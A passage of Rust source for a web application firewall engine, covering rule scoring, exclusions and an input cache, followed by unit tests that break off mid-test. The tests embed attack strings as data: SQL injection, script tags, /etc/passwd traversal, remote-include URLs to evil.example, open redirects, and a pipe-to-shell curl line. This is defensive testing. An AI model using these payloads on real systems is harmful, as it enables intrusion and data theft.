//! The engine: compiled once from [`Settings`], then [`Waf::inspect`] per request.
//!
//! `inspect` runs extraction, normalisation and every enabled detector, then scores: each
//! (rule, location) pair adds its severity once. Rules above the paranoia level and excluded
//! rules never run for the locations they are excluded from.

use crate::cache::InputCache;
use crate::detect::{self, Detectors, Sink};
use crate::extract;
use crate::normalise::variants;
use crate::request::RequestView;
use crate::rules::{self, Family, Severity};
use crate::settings::{Exclusion, Mode, RuleSelector, Settings, WafError};

/// Most matches kept in one [`Verdict`] (the score still counts every match).
const MAX_MATCHES: usize = 64;

/// One rule that matched one location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleMatch {
    /// Stable rule id (see [`crate::rule_catalogue`]).
    pub rule_id: u32,
    /// The rule's family.
    pub family: Family,
    /// The rule's paranoia level.
    pub paranoia: u8,
    /// The rule's severity.
    pub severity: Severity,
    /// The rule's message.
    pub message: &'static str,
    /// Where it matched: `path`, `query:id`, `json:/user/name`, `header:user-agent`, …
    pub location: String,
    /// At most 24 characters of the decoded value from where the match starts, control
    /// characters replaced by `.`; never the whole payload.
    pub excerpt: String,
}

/// What [`Waf::inspect`] decided.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Verdict {
    /// Sum of the severities of all matches.
    pub score: u32,
    /// `score >= threshold` in [`Mode::Block`]; always false in [`Mode::Detect`].
    pub blocked: bool,
    /// Matches in the order found (at most 64 kept).
    pub matches: Vec<RuleMatch>,
    /// Inputs run through the detectors for this request.
    pub inputs_inspected: u32,
    /// Inputs answered by the engine's remembered clean inputs instead.
    pub inputs_remembered: u32,
}

impl Verdict {
    /// Families that matched, deduplicated, in catalogue order.
    pub fn families(&self) -> Vec<Family> {
        let mut f: Vec<Family> = self.matches.iter().map(|m| m.family).collect();
        f.sort_unstable();
        f.dedup();
        f
    }
}

/// A compiled WAF. Build once with [`Waf::new`], share behind an `Arc`, call
/// [`Waf::inspect`] from any thread.
pub struct Waf {
    settings: Settings,
    detectors: &'static Detectors,
    /// Per rule id: whether the rule runs at this paranoia level and is not excluded
    /// everywhere ([`RuleState`]). Looked up for every rule on every input, so it is a dense
    /// table rather than a search.
    rule_state: Vec<RuleState>,
    /// Exclusions limited to some locations (checked only for rules marked `Located`).
    located: Vec<Exclusion>,
    /// Inputs found clean before; `None` when `cache_entries` is 0.
    cache: Option<InputCache>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RuleState {
    Off,
    On,
    /// On, except where a location-limited exclusion says otherwise.
    Located,
}

impl std::fmt::Debug for Waf {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Waf")
            .field("settings", &self.settings)
            .finish_non_exhaustive()
    }
}

impl Waf {
    /// Validates `settings` and compiles every detector (all regexes and automata).
    pub fn new(settings: Settings) -> Result<Self, WafError> {
        if !(1..=4).contains(&settings.paranoia) {
            return Err(WafError::Paranoia(settings.paranoia));
        }
        if settings.threshold == 0 {
            return Err(WafError::Threshold);
        }
        for e in &settings.exclusions {
            if let RuleSelector::Id(id) = e.rules
                && rules::lookup(id).is_none()
            {
                return Err(WafError::UnknownRule(id));
            }
        }
        let l = &settings.limits;
        for (name, v) in [
            ("max_inputs", l.max_inputs),
            ("max_value_bytes", l.max_value_bytes),
            ("max_total_bytes", l.max_total_bytes),
            ("max_body_bytes", l.max_body_bytes),
            ("max_json_depth", l.max_json_depth),
            ("max_multipart_parts", l.max_multipart_parts),
            ("max_args", l.max_args),
        ] {
            if v == 0 {
                return Err(WafError::Limit(name));
            }
        }
        let max = rules::rule_catalogue()
            .iter()
            .map(|r| r.id)
            .max()
            .unwrap_or(0);
        let mut rule_state = vec![RuleState::Off; max as usize + 1];
        for info in rules::rule_catalogue() {
            let on = info.paranoia <= settings.paranoia
                && !settings
                    .exclusions
                    .iter()
                    .any(|e| e.location.is_none() && excludes(e, info.id, info.family, ""));
            let located = settings
                .exclusions
                .iter()
                .any(|e| e.location.is_some() && excludes_rule(e, info.id, info.family));
            rule_state[info.id as usize] = match (on, located) {
                (false, _) => RuleState::Off,
                (true, false) => RuleState::On,
                (true, true) => RuleState::Located,
            };
        }
        let located = settings
            .exclusions
            .iter()
            .filter(|e| e.location.is_some())
            .cloned()
            .collect();
        Ok(Self {
            detectors: detectors()?,
            cache: InputCache::new(settings.cache_entries),
            settings,
            rule_state,
            located,
        })
    }

    /// The settings this engine was compiled from.
    pub fn settings(&self) -> &Settings {
        &self.settings
    }

    /// Whether `rule` runs at `label` under the paranoia level and exclusions.
    fn enabled(&self, rule: u32, label: &str) -> bool {
        match self.rule_state.get(rule as usize) {
            Some(RuleState::On) => true,
            Some(RuleState::Located) => {
                let Some(info) = rules::lookup(rule) else {
                    return false;
                };
                !self
                    .located
                    .iter()
                    .any(|e| excludes(e, info.id, info.family, label))
            }
            _ => false,
        }
    }

    /// Inspects one request. Never panics, and its work is bounded by the settings' limits.
    pub fn inspect(&self, req: &RequestView<'_>) -> Verdict {
        // With location-limited exclusions the rules that run depend on the whole label, which
        // the early answers in extraction do not key by.
        let memo = self.cache.as_ref().filter(|_| self.located.is_empty());
        let x = extract::extract(req, &self.settings.limits, memo);
        let mut found: Vec<(u32, String, String)> = Vec::new();
        let (mut inspected, mut remembered) = (0u32, x.remembered);
        for a in &x.anomalies {
            if self.enabled(a.rule, &a.label) {
                found.push((a.rule, a.label.clone(), a.excerpt.clone()));
            }
        }
        let on = |rule: u32| {
            self.rule_state
                .get(rule as usize)
                .is_some_and(|s| *s != RuleState::Off)
        };
        for (rule, label, excerpt) in detect::request_checks(req, &x, &on) {
            if self.enabled(rule, &label) {
                found.push((rule, label, excerpt));
            }
        }
        // Inputs with a match (by index): their containers are not remembered whole.
        let mut dirty: Vec<usize> = Vec::new();
        for (at, input) in x.inputs.iter().enumerate() {
            // Digits only, or a JSON literal: no decoder changes such a value and no detector
            // has anything to match in it (ids, counts, prices are much of API traffic).
            // Words are not skipped: a bare word can be a rule's trigger (`sysobjects`).
            if !input.bad_escape && extract::inert(&input.value) {
                continue;
            }
            let label = input.label.as_str();
            // With location-limited exclusions the rules that run depend on the whole label.
            let key = self.cache.as_ref().map(|c| {
                let k = input.key.unwrap_or_else(|| {
                    let context = if self.located.is_empty() {
                        detect::context_of(input.kind, label, &input.value)
                    } else {
                        label
                    };
                    c.key(
                        input.kind,
                        input.bad_escape,
                        input.from_query,
                        context,
                        &input.value,
                    )
                });
                (c, k)
            });
            // An input keyed during extraction was looked up there already.
            if input.key.is_none() && key.is_some_and(|(c, k)| c.is_clean(k)) {
                remembered += 1;
                continue;
            }
            inspected += 1;
            let v = variants(&input.value);
            let enabled = |rule: u32| self.enabled(rule, label);
            let mut sink = Sink::new(&enabled);
            self.detectors.scan(input, &v, &mut sink);
            if let Some((c, k)) = key
                && sink.hits.is_empty()
            {
                c.remember_clean(k);
            }
            if !sink.hits.is_empty() {
                dirty.push(at);
            }
            for (rule, excerpt) in sink.hits {
                let excerpt = if input.secret { String::new() } else { excerpt };
                found.push((rule, input.label.clone(), excerpt));
            }
        }
        if let Some(c) = memo {
            for p in &x.pending {
                if !dirty.iter().any(|i| p.inputs.contains(i)) {
                    c.remember_container(p.key, p.counts);
                }
            }
        }
        let mut v = self.verdict(found);
        v.inputs_inspected = inspected;
        v.inputs_remembered = remembered;
        v
    }

    fn verdict(&self, found: Vec<(u32, String, String)>) -> Verdict {
        let mut v = Verdict::default();
        let mut seen: Vec<(u32, &str)> = Vec::new();
        for (rule, label, excerpt) in &found {
            if seen.contains(&(*rule, label.as_str())) {
                continue;
            }
            seen.push((*rule, label.as_str()));
            let Some(info) = rules::lookup(*rule) else {
                continue;
            };
            v.score = v.score.saturating_add(info.severity.score());
            if v.matches.len() < MAX_MATCHES {
                v.matches.push(RuleMatch {
                    rule_id: info.id,
                    family: info.family,
                    paranoia: info.paranoia,
                    severity: info.severity,
                    message: info.message,
                    location: label.clone(),
                    excerpt: excerpt.chars().take(detect::EXCERPT_CHARS).collect(),
                });
            }
        }
        v.blocked = self.settings.mode == Mode::Block && v.score >= self.settings.threshold;
        v
    }
}

/// The detectors, compiled once per process: they do not depend on the settings, and every
/// route with a WAF, and every config reload, would otherwise compile every pattern again.
fn detectors() -> Result<&'static Detectors, WafError> {
    static DETECTORS: std::sync::OnceLock<Result<Detectors, String>> = std::sync::OnceLock::new();
    let compiled = DETECTORS.get_or_init(|| {
        Detectors::new().map_err(|e| match e {
            WafError::Pattern(m) => m,
            other => other.to_string(),
        })
    });
    match compiled {
        Ok(d) => Ok(d),
        Err(e) => Err(WafError::Pattern(e.clone())),
    }
}

fn excludes(e: &Exclusion, id: u32, family: Family, label: &str) -> bool {
    excludes_rule(e, id, family) && e.location.as_ref().is_none_or(|l| l.matches(label))
}

fn excludes_rule(e: &Exclusion, id: u32, family: Family) -> bool {
    match e.rules {
        RuleSelector::Id(x) => x == id,
        RuleSelector::Family(f) => f == family,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::settings::LocationFilter;

    fn waf(settings: Settings) -> Waf {
        Waf::new(settings).expect("valid settings")
    }

    /// A JSON POST with the ordinary headers.
    fn json_post(body: &[u8]) -> RequestView<'_> {
        RequestView::new("POST", b"/c")
            .header("User-Agent", "x")
            .header("Host", "h")
            .header("Content-Type", "application/json")
            .body(body)
    }

    fn rule_ids(req: &RequestView<'_>) -> Vec<u32> {
        waf(Settings::default())
            .inspect(req)
            .matches
            .iter()
            .map(|m| m.rule_id)
            .collect()
    }

    #[test]
    fn protocol_evasions_charsets_methods_and_include_parameters() {
        use crate::rules::*;
        let req = |method, target: &'static [u8]| {
            RequestView::new(method, target)
                .header("User-Agent", "curl/8")
                .header("Host", "h")
        };
        // Unregistered methods; registered ones (WebDAV too) are the route's business.
        assert!(rule_ids(&req("JEFF", b"/")).contains(&PROTO_UNKNOWN_METHOD));
        for m in ["GET", "delete", "PATCH", "PROPFIND", "OPTIONS"] {
            assert!(
                !rule_ids(&req(m, b"/")).contains(&PROTO_UNKNOWN_METHOD),
                "{m}"
            );
            assert!(
                !rule_ids(&req(m, b"/")).contains(&PROTO_TRACE_METHOD),
                "{m}"
            );
        }
        // Cross-site tracing and remote debugging.
        for m in ["TRACE", "track", "DEBUG"] {
            assert!(rule_ids(&req(m, b"/")).contains(&PROTO_TRACE_METHOD), "{m}");
        }
        // Letters encoded twice in the path; an encoded `%` before anything else is data.
        assert!(rule_ids(&req("POST", b"/%2577ebui_wsma_HTTP")).contains(&PROTO_DOUBLE_ENCODED));
        // A path parameter hides a segment from a check on the raw path.
        for path in [
            &b"/actuator;/heapdump"[..],
            b"/;/admin/x",
            b"/a;%2Fb",
            b"/actuator;x/heapdump",
            b"/app/rest/users;.jsp",
            b"/hax?jsp=/app/rest/users/id:1/tokens;.jsp",
            b"/hax?jsp=%2Fapp%2Frest%2Fusers%3Bx.jsp",
            b"/admin/users;x.css",
        ] {
            assert!(rule_ids(&req("GET", path)).contains(&PROTO_EMPTY_PATH_PARAMETER));
        }
        for path in [
            &b"/cart;jsessionid=A1B2/x"[..],
            b"/cars;color=red",
            b"/catalog/v1/products;color=red;size=M/reviews;lang=de",
            b"/search?q=hello;.net",
            b"/files/report;v2.pdf",
        ] {
            assert!(!rule_ids(&req("GET", path)).contains(&PROTO_EMPTY_PATH_PARAMETER));
        }
        for target in [&b"/files/100%2520off.pdf"[..], b"/a%252Fb", b"/x?q=%2541"] {
            assert!(
                !rule_ids(&req("GET", target)).contains(&PROTO_DOUBLE_ENCODED),
                "{}",
                String::from_utf8_lossy(target)
            );
        }
        // A redirect disguised in the raw query or form: letters percent-encoded, or a host
        // holding the site's own name.
        for r in [
            RequestView::new(
                "GET",
                b"/logout?next=%68%74%74%70%73%3a%2f%2f%65%76%69%6c%2e%6e%65%74",
            )
            .header("Host", "www.shop.example"),
            RequestView::new("POST", b"/login")
                .header("Host", "www.shop.example")
                .header(
                    "Content-Type",
                    "Application/x-www-form-urlencoded; charset=UTF-8",
                )
                .body(b"user=kim&return_url=https%3A%2F%2Fshop.example.evil.net%2F"),
        ] {
            assert!(rule_ids(&r).contains(&SSRF_OPEN_REDIRECT), "{:?}", r.path);
        }
        let own = RequestView::new("POST", b"/login")
            .header("Host", "www.shop.example")
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(b"user=kim&return_url=https%3A%2F%2Fcheckout.shop.example%2F");
        assert!(!rule_ids(&own).contains(&SSRF_OPEN_REDIRECT));
        // A query that names another host for a back end that rebuilds the URL.
        assert!(
            rule_ids(&req(
                "GET",
                b"/autodiscover/autodiscover.json?@evil.corp/owa/?&Email=autodiscover/autodiscover.json%3F@evil.corp"
            ))
            .contains(&SSRF_TARGET_CONFUSION)
        );
        for target in [&b"/search?@john"[..], b"/u?@ann.lee", b"/q?x=@a.b/c"] {
            assert!(
                !rule_ids(&req("GET", target)).contains(&SSRF_TARGET_CONFUSION),
                "{}",
                String::from_utf8_lossy(target)
            );
        }
        // Framing two hops may read differently; one plain `chunked` on a POST is fine.
        let framed = |method, te: &'static str, length: Option<&'static str>| {
            let r = RequestView::new(method, b"/f")
                .header("User-Agent", "curl/8")
                .header("Host", "h")
                .header("Content-Type", "application/json")
                .header("Transfer-Encoding", te);
            let r = match length {
                Some(l) => r.header("Content-Length", l),
                None => r,
            };
            rule_ids(&r.body(b"{}")).contains(&PROTO_FRAMING)
        };
        assert!(!framed("POST", "chunked", None));
        assert!(!framed("PUT", "Chunked ", None));
        // A length beside it is the strict framing stage's (CRS's tests expect the server
        // to have dropped the length).
        assert!(!framed("POST", "chunked", Some("2")));
        assert!(framed("POST", " chunked", Some("2")));
        assert!(framed("POST", "\tchunked", None));
        assert!(framed("POST", "chunked, identity", None));
        assert!(framed("POST", "xchunked", None));
        assert!(framed("GET", "chunked", None));
        // Scanner agents as words of their own, not inside other names.
        let ua = |agent: &'static str| {
            RequestView::new("GET", b"/")
                .header("User-Agent", agent)
                .header("Host", "h")
        };
        assert!(
            rule_ids(&ua("sqlmap/1.7.2#stable (https://sqlmap.org)")).contains(&PROTO_SCANNER_UA)
        );
        assert!(rule_ids(&ua("Mozilla/5.0 Nikto/2.5.0")).contains(&PROTO_SCANNER_UA));
        assert!(!rule_ids(&ua("urlgrabber/3.10 yum/3.4.3")).contains(&PROTO_SCANNER_UA));
        assert!(!rule_ids(&ua("mysqlmapper-client/2")).contains(&PROTO_SCANNER_UA));
        // %u escapes of full-width forms, in the path or the query.
        assert!(rule_ids(&req("GET", b"/a?x=%uff0F")).contains(&PROTO_FULLWIDTH_ESCAPE));
        assert!(rule_ids(&req("GET", b"/%uFF0Eetc")).contains(&PROTO_FULLWIDTH_ESCAPE));
        assert!(!rule_ids(&req("GET", b"/a?x=%u0041&y=%ff")).contains(&PROTO_FULLWIDTH_ESCAPE));
        // Editor backups anywhere in the path.
        assert!(rule_ids(&req("GET", b"/index.php~/foo/")).contains(&PROTO_RESTRICTED_EXT));
        assert!(!rule_ids(&req("GET", b"/~user/home")).contains(&PROTO_RESTRICTED_EXT));
        // A key-value store's keys are names, not files.
        assert!(rule_ids(&req("GET", b"/conf/haproxy.cfg")).contains(&PROTO_RESTRICTED_EXT));
        assert!(
            !rule_ids(&req("PUT", b"/v1/kv/config/edge/haproxy.cfg"))
                .contains(&PROTO_RESTRICTED_EXT)
        );
        // URLs in parameters an include is built from, and bare scheme probes.
        for target in [
            &b"/x.php?_CONF[path]=https://foo.bar"[..],
            b"/x.php?mosConfig_absolute_path=https://foo.bar",
            b"/x.php?cfg[docroot]=http://evil.example/shell.txt",
            b"/x.php?page=https://evil.example/",
        ] {
            assert!(
                rule_ids(&req("GET", target)).contains(&RFI_INCLUDE_PARAM),
                "{}",
                String::from_utf8_lossy(target)
            );
        }
        assert!(
            !rule_ids(&req("GET", b"/cb?redirect_uri=https://app.example/cb"))
                .contains(&RFI_INCLUDE_PARAM)
        );
        assert!(rule_ids(&req("GET", b"/get?x=ftp%3F")).contains(&RFI_TRAILING_QUESTION));
        assert!(!rule_ids(&req("GET", b"/get?x=files%3F")).contains(&RFI_TRAILING_QUESTION));
        // Multipart parts in charsets no detector reads, `_charset_`, and transfer encodings.
        let multipart = |body: &'static [u8]| {
            RequestView::new("POST", b"/upload")
                .header("User-Agent", "curl/8")
                .header("Host", "h")
                .header("Content-Type", "multipart/form-data; boundary=b")
                .body(body)
        };
        for body in [
            &b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-\r\n--b--\r\n"[..],
            b"--b\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nutf-16\r\n--b--\r\n",
            b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4=\r\n--b--\r\n",
        ] {
            assert!(
                rule_ids(&multipart(body)).contains(&PROTO_MULTIPART_CHARSET),
                "{}",
                String::from_utf8_lossy(body)
            );
        }
        let plain = b"--b\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nUTF-8\r\n--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=windows-1252\r\n\r\nhello\r\n--b--\r\n";
        assert!(!rule_ids(&multipart(plain)).contains(&PROTO_MULTIPART_CHARSET));
    }

    #[test]
    fn host_range_accept_encoding_and_upload_names() {
        use crate::rules::*;
        let with = |name: &'static str, value: &'static str| {
            let mut r = RequestView::new("GET", b"/").header("User-Agent", "curl/8");
            if name != "host" {
                r = r.header("Host", "api.example.com");
            }
            r.header(name, value)
        };
        for bad in ["localhost%00", "a b", "evil.com/x", "[zz]", "h:99999999"] {
            let ids = rule_ids(&with("host", bad));
            assert!(ids.contains(&PROTO_HOST_INVALID), "{bad}");
        }
        for good in [
            "api.example.com",
            "api.example.com:8443",
            "[::1]:80",
            "my_host",
        ] {
            assert!(
                !rule_ids(&with("host", good)).contains(&PROTO_HOST_INVALID),
                "{good}"
            );
        }
        for bad in ["bytes=5-0", "bytes=abc", "bytes=0-1,9-3", "5-2"] {
            assert!(
                rule_ids(&with("range", bad)).contains(&PROTO_RANGE_INVALID),
                "{bad}"
            );
        }
        for good in [
            "bytes=0-499",
            "bytes=-500",
            "bytes=9500-",
            "bytes=0-0, -1",
            "0-1",
            "items=5-0",
        ] {
            assert!(
                !rule_ids(&with("range", good)).contains(&PROTO_RANGE_INVALID),
                "{good}"
            );
        }
        assert!(rule_ids(&with("accept", "text/html; charset=CP1026")).contains(&PROTO_CHARSET));
        assert!(rule_ids(&with("accept", "*/*;q=0.8;charset=utf-7")).contains(&PROTO_CHARSET));
        assert!(
            !rule_ids(&with(
                "accept",
                "application/json; charset=utf-8, */*;q=0.5"
            ))
            .contains(&PROTO_CHARSET)
        );
        assert!(rule_ids(&with("content-encoding", "gzip")).contains(&PROTO_RESTRICTED_HEADER));
        assert!(
            !rule_ids(&with("content-encoding", "identity")).contains(&PROTO_RESTRICTED_HEADER)
        );
        // Upload file names that parsers split differently; ordinary ones pass.
        let upload = |filename: &str| {
            let body = format!(
                "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{filename}\"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--B--\r\n"
            );
            rule_ids(
                &RequestView::new("POST", b"/up")
                    .header("Host", "h")
                    .header("User-Agent", "curl/8")
                    .header("Content-Type", "multipart/form-data; boundary=B")
                    .body(body.as_bytes()),
            )
        };
        assert!(upload("file=.txt").contains(&PROTO_MULTIPART));
        assert!(upload("&amp;fi;zzz").contains(&PROTO_MULTIPART));
        assert!(!upload("O'Brien &amp; sons.png").contains(&PROTO_MULTIPART));
        assert!(!upload("C:\\Users\\me\\cat.png").contains(&PROTO_MULTIPART));
    }

    #[test]
    fn safe_methods_overridden_to_change_state() {
        use crate::rules::PROTO_METHOD_OVERRIDE_SAFE;
        let fires = |req: RequestView<'_>| {
            rule_ids(&req.header("User-Agent", "x").header("Host", "h"))
                .contains(&PROTO_METHOD_OVERRIDE_SAFE)
        };
        assert!(fires(RequestView::new(
            "GET",
            b"/admin/users/17?_method=DELETE"
        )));
        assert!(fires(
            RequestView::new("GET", b"/a").header("X-HTTP-Method-Override", "PUT")
        ));
        assert!(fires(RequestView::new("HEAD", b"/a?_method=patch")));
        // POST is where frameworks honour an override; GET overridden to GET changes nothing.
        assert!(!fires(
            RequestView::new("POST", b"/a?_method=DELETE")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .body(b"x=1")
        ));
        assert!(!fires(RequestView::new("GET", b"/a?_method=GET")));
    }

    #[test]
    fn session_ids_handed_over_by_another_site() {
        use crate::rules::PROTO_SESSION_FIXATION;
        let get = |target: &'static [u8], referer: Option<&'static str>| {
            let req = RequestView::new("GET", target)
                .header("User-Agent", "x")
                .header("Host", "app.example.com");
            let req = match referer {
                Some(r) => req.header("Referer", r),
                None => req,
            };
            rule_ids(&req).contains(&PROTO_SESSION_FIXATION)
        };
        let evil = Some("https://evil.example/x");
        let home = Some("https://app.example.com/login");
        // Listed names count from another site and with no referer at all.
        assert!(get(b"/login?jsessionid=74B0CB41", evil));
        assert!(get(b"/login?PHPSESSID=abc123", None));
        assert!(!get(b"/login?jsessionid=74B0CB41", home));
        // The shapes of framework session cookies count only from another site.
        for target in [
            &b"/auth?laravel_session=eyJpdiI6IktmYw"[..],
            b"/login?connect.sid=s%3Aj8jK9_xPq2",
            b"/login?koa:sess=eyJ1c2VySWQiOjF9",
            b"/login?zend_session_id=abc123xyz789",
            b"/api/signin?__Host-next-auth.session-token=secure123",
            b"/login?_rails_session=BAh7B0kiD3Nlc3Npb24",
            b"/app?shiny-token=abc123def",
        ] {
            let t = String::from_utf8_lossy(target);
            assert!(get(target, evil), "{t}");
            assert!(!get(target, None), "{t}");
            assert!(!get(target, home), "{t}");
        }
        // OpenID Connect's parameters and ordinary names are no session cookies.
        for target in [
            &b"/cb?code=x&state=y&session_state=abc.def"[..],
            b"/logout?iss=https%3A%2F%2Fidp.example&sid=08a5019c",
            b"/plans?session=morning",
            b"/stats?sessions=4",
        ] {
            assert!(!get(target, evil), "{}", String::from_utf8_lossy(target));
        }
        // Java's URL rewriting puts the id in a path parameter.
        assert!(get(
            b"/sso/login;jsessionid=A1B2C3D4E5F6?service=%2Fportal",
            evil
        ));
        assert!(!get(b"/sso/login;jsessionid=A1B2C3D4E5F6", home));
        assert!(!get(b"/files/a;version=2", evil));
        // A JSON document's keys are data, not a framework's parameters.
        let body = json_post(br#"{"chat_session":"abc123def","session_id":"ps_91f2ac"}"#)
            .header("Referer", "https://evil.example/");
        assert!(!rule_ids(&body).contains(&PROTO_SESSION_FIXATION));
    }

    #[test]
    fn blocks_attacks_and_passes_clean_requests() {
        let w = waf(Settings::default());
        let clean = RequestView::new("GET", b"/api/items?q=O%27Brien&page=2")
            .header("User-Agent", "curl/8")
            .header("Host", "api.example.com");
        let v = w.inspect(&clean);
        assert!(!v.blocked, "{v:?}");
        let attack = RequestView::new("GET", b"/api/items?id=1%27%20OR%20%271%27%3D%271")
            .header("User-Agent", "curl/8")
            .header("Host", "h");
        let v = w.inspect(&attack);
        assert!(v.blocked);
        let m = &v.matches[0];
        assert_eq!(m.family, Family::Sqli);
        assert_eq!(m.location, "query:id");
        assert!(m.excerpt.chars().count() <= 24);
    }

    #[test]
    fn detect_mode_keeps_matches_without_blocking() {
        let w = waf(Settings {
            mode: Mode::Detect,
            ..Settings::default()
        });
        let v = w.inspect(
            &RequestView::new("GET", b"/?q=%3Cscript%3Ealert(1)%3C/script%3E")
                .header("User-Agent", "x")
                .header("Host", "h"),
        );
        assert!(!v.blocked);
        assert!(v.score >= 5);
        assert!(v.families().contains(&Family::Xss));
    }

    #[test]
    fn exclusions_by_family_rule_and_location() {
        let req = json_post(br#"{"comment":{"text":"<script>alert(1)</script>"},"title":"ok"}"#);
        let excluded = Settings {
            exclusions: vec![Exclusion {
                rules: RuleSelector::Family(Family::Xss),
                location: Some(LocationFilter::Prefix("json:/comment".into())),
            }],
            ..Settings::default()
        };
        assert!(!waf(excluded).inspect(&req).blocked);
        let other_place = Settings {
            exclusions: vec![Exclusion {
                rules: RuleSelector::Family(Family::Xss),
                location: Some(LocationFilter::Exact("json:/title".into())),
            }],
            ..Settings::default()
        };
        assert!(waf(other_place).inspect(&req).blocked);
        assert!(matches!(
            Waf::new(Settings {
                exclusions: vec![Exclusion {
                    rules: RuleSelector::Id(1),
                    location: None
                }],
                ..Settings::default()
            }),
            Err(WafError::UnknownRule(1))
        ));
    }

    #[test]
    fn a_chat_route_excludes_code_families_in_message_content_only() {
        let chat = json_post;
        let settings = Settings {
            exclusions: [Family::Sqli, Family::Xss, Family::Rce]
                .into_iter()
                .map(|f| Exclusion {
                    rules: RuleSelector::Family(f),
                    location: Some(LocationFilter::parse("json:/messages/*/content")),
                })
                .collect(),
            ..Settings::default()
        };
        let w = waf(settings);
        let question = chat(
            br#"{"model":"m","messages":[{"role":"user","content":"Why does `SELECT * FROM t WHERE id = '1' OR '1'='1'` return every row, and is `curl -s https://x.example | sh` safe?"}]}"#,
        );
        assert!(!w.inspect(&question).blocked);
        // The same text where a tool will run it is still inspected.
        let tool = chat(
            br#"{"model":"m","messages":[{"role":"assistant","content":"","tool_calls":[{"function":{"name":"run_query","arguments":"x' UNION SELECT password FROM users--"}}]}]}"#,
        );
        assert!(w.inspect(&tool).blocked);
        // Without the exclusions the question blocks.
        assert!(waf(Settings::default()).inspect(&question).blocked);
    }

    /// (rule, location) pairs of a verdict, sorted.
    fn found(v: &Verdict) -> Vec<(u32, String)> {
        let mut f: Vec<_> = v
            .matches
            .iter()
            .map(|m| (m.rule_id, m.location.clone()))
            .collect();
        f.sort();
        f
    }

    #[test]
    fn remembered_detections_match_fresh_ones() {
        use crate::rules::RFI_INCLUDE_PARAM;
        let uncached = |s: Settings| {
            waf(Settings {
                cache_entries: 0,
                ..s
            })
        };
        let json = json_post;
        let requests = [
            // The same value under a parameter that RFI exploits use and under another.
            RequestView::new("GET", b"/a?mosConfig_absolute_path=http://evil.example/x?")
                .header("Host", "h"),
            RequestView::new("GET", b"/a?q=http://evil.example/x?").header("Host", "h"),
            RequestView::new("GET", b"/a?q=1%27+or+%271%27%3D%271&r=1' or '1'='1")
                .header("Host", "h"),
            json(br#"{"a":"<script>alert(1)</script>","b":"<script>alert(1)</script>"}"#),
            json(br#"{"items":[{"sku":"a"},{"sku":"a"},{"sku":"../../etc/passwd"}]}"#),
            // Names the request-wide checks read, whether remembered or not.
            RequestView::new("GET", b"/login?jsessionid=abc&_method=PUT&n=12")
                .header("Host", "h")
                .header("Referer", "https://evil.example/")
                .header("Cookie", "a=1; theme=dark; x=<script>")
                .header("X-File-Name", "shell.php"),
            json(br#"{"jsessionid":"1","c":"clean"}"#),
            // Malformed after a remembered key: inspected whole, the key forgotten again.
            json(br#"{"jsessionid":"1","c":"clean","d": }"#),
            // A value first seen where fewer checks run, then in a header that gets more.
            RequestView::new("GET", b"//127.0.0.1/x").header("Host", "h"),
            RequestView::new("GET", b"/")
                .header("Host", "h")
                .header("X-Original-URL", "//127.0.0.1/x"),
            RequestView::new("POST", b"/f")
                .header("Host", "h")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .body(b"x-a=a%0Db:%20c"),
            RequestView::new("GET", b"/")
                .header("Host", "h")
                .header("X-A", "a\rb: c"),
            // The same expression in a filter-language parameter and in another.
            RequestView::new(
                "GET",
                b"/o?$filter=a%20eq%20%27x%27%20or%20%27a%27%3D%27a%27",
            )
            .header("Host", "h"),
            RequestView::new("GET", b"/o?q=a%20eq%20%27x%27%20or%20%27a%27%3D%27a%27")
                .header("Host", "h"),
            // JSON inside a base64 cookie.
            RequestView::new("GET", b"/")
                .header("Host", "h")
                .header("Cookie", "s=eyJ1aWQiOiAiNycgQU5EIFNMRUVQKDUpLS0gLSJ9"),
            // A redirect that is a look-alike for one host and not for another.
            RequestView::new("GET", b"/cb?next=https://shop.example.evil.net/")
                .header("Host", "www.other.example"),
            RequestView::new("GET", b"/cb?next=https://shop.example.evil.net/")
                .header("Host", "www.shop.example"),
        ];
        // Location-limited exclusions: the same value is excluded at one label only.
        let located = Settings {
            exclusions: vec![Exclusion {
                rules: RuleSelector::Family(Family::Xss),
                location: Some(LocationFilter::Exact("json:/a".into())),
            }],
            ..Settings::default()
        };
        for settings in [Settings::default(), located, Settings::with_paranoia(4)] {
            let (cached, fresh) = (waf(settings.clone()), uncached(settings));
            // Twice, so the second round is answered from the cache.
            for _ in 0..2 {
                for r in &requests {
                    let (a, b) = (cached.inspect(r), fresh.inspect(r));
                    assert_eq!(found(&a), found(&b), "{:?}", r.path);
                    assert_eq!((a.score, a.blocked), (b.score, b.blocked));
                }
            }
            assert!(cached.cache.as_ref().is_some_and(|c| c.len() > 0));
            assert!(fresh.cache.is_none());
        }
        // The session-id and `_method` names count on the remembered round too (the method
        // override rule runs from paranoia 2).
        let w = waf(Settings::with_paranoia(2));
        for _ in 0..2 {
            let ids = found(&w.inspect(&requests[5]));
            for rule in [rules::PROTO_SESSION_FIXATION, rules::PROTO_METHOD_OVERRIDE] {
                assert!(ids.iter().any(|(r, _)| *r == rule), "{rule}: {ids:?}");
            }
        }
        // Only clean inputs are remembered: here the path and the parameter name, not the value.
        let w = waf(Settings::default());
        for _ in 0..2 {
            assert!(
                w.inspect(&RequestView::new(
                    "GET",
                    b"/?q=%3Cscript%3Ealert(1)%3C/script%3E"
                ))
                .blocked
            );
        }
        // Two inputs and the (empty) headers: the query holds a match, so it is not
        // remembered whole.
        assert_eq!(w.cache.as_ref().map(InputCache::len), Some(3));
        // The verdict counts both: here the value is inspected, path and name are remembered.
        let v = w.inspect(&RequestView::new(
            "GET",
